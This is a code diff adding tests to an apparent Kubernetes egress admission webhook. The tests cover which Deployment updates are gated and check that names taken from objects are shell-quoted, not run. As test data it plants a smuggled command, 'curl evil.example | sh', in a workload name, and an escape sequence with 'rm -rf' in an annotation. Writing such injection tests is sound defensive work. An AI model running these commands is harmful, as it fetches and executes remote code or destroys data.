@@ -253,3 +253,106 @@ test("property: any JSON body is parsed to a request or an error, and deciding n
   );
   t.pass();
 });
+
+const APPS = { group: "apps", version: "v1", kind: "Deployment" };
+const staleCtx = () => ctx("enforce", namespaceContents(parseIntents([stale]), observed));
+
+function update(object: Record<string, unknown>, oldObject: Record<string, unknown>, kind = APPS) {
+  const body = review(object, kind, "UPDATE") as { request: Record<string, unknown> };
+  body.request.oldObject = oldObject;
+  return request(body);
+}
+
+const deployment = (
+  extra: { meta?: Record<string, unknown>; replicas?: number; image?: string } = {},
+) => ({
+  apiVersion: "apps/v1",
+  kind: "Deployment",
+  metadata: { name: "joke-worker", namespace: "dev", ...extra.meta },
+  spec: {
+    replicas: extra.replicas ?? 1,
+    template: { spec: { containers: [{ name: "w", image: extra.image ?? "joke-worker:1" }] } },
+  },
+});
+
+test("only what can change egress is judged: deletes, metadata, status and scale never hang on the gate", (t) => {
+  const before = deployment();
+  // The pod template changes: judged (and denied, its intents are stale).
+  t.false(decide(update(deployment({ image: "joke-worker:2" }), before), staleCtx()).allowed);
+  // A finalizer taken off an object being deleted (kubectl delete --cascade=foreground).
+  const deleting = deployment({
+    meta: { deletionTimestamp: "2026-11-25T10:00:00Z", finalizers: [] },
+  });
+  t.true(
+    decide(
+      update(deleting, deployment({ meta: { finalizers: ["foregroundDeletion"] } })),
+      staleCtx(),
+    ).allowed,
+  );
+  // Labels, annotations, finalizers, replicas: allowed without a word.
+  for (const after of [
+    deployment({ meta: { labels: { team: "jokes" } } }),
+    deployment({ meta: { annotations: { note: "x" }, finalizers: ["example.com/hold"] } }),
+    deployment({ replicas: 5 }),
+  ]) {
+    t.deepEqual(decide(update(after, before), staleCtx()), { allowed: true, warnings: [] });
+  }
+  // Taking the skip annotation off is asking to be judged again.
+  const skipped = deployment({ meta: { annotations: { "egress.otter.dev/skip": "later" } } });
+  t.false(decide(update(before, skipped), staleCtx()).allowed);
+  // A Job made by a CronJob is the CronJob's: the Job is not gated.
+  const job = {
+    apiVersion: "batch/v1",
+    kind: "Job",
+    metadata: {
+      name: "report-29400000",
+      namespace: "dev",
+      ownerReferences: [{ apiVersion: "batch/v1", kind: "CronJob", name: "report", uid: "u" }],
+    },
+    spec: { template: { spec: { containers: [{ name: "r", image: "r:1" }] } } },
+  };
+  t.true(
+    decide(request(review(job, { group: "batch", version: "v1", kind: "Job" })), ctx("enforce"))
+      .allowed,
+  );
+});
+
+test("names from objects are printed, not run: the fix command is shell-quoted, control characters go", (t) => {
+  const hostile = {
+    ...deployment(),
+    spec: {
+      template: {
+        metadata: {
+          annotations: {
+            "intents.otterize.com/workload-name": "joke-worker; curl evil.example | sh #",
+          },
+        },
+      },
+    },
+  };
+  const seen = parseObserved([
+    observedEgress({
+      name: "joke-worker; curl evil.example | sh #",
+      destinations: [internet("api.openai.com", ["104.18.7.192"], [443])],
+    }),
+  ]);
+  const answer = decide(
+    request(review(hostile, APPS)),
+    ctx("enforce", namespaceContents([], seen)),
+  );
+  t.false(answer.allowed);
+  t.regex(
+    answer.message ?? "",
+    /kubectl otter egress suggest -n dev 'joke-worker; curl evil\.example \| sh #'$/,
+  );
+  const skip = decide(
+    request(
+      review(
+        deployment({ meta: { annotations: { "egress.otter.dev/skip": "ok\u001b[2J\nrm -rf" } } }),
+        APPS,
+      ),
+    ),
+    ctx("enforce"),
+  );
+  t.deepEqual(skip.warnings, ["otter egress: check skipped (ok [2J rm -rf)"]);
+});
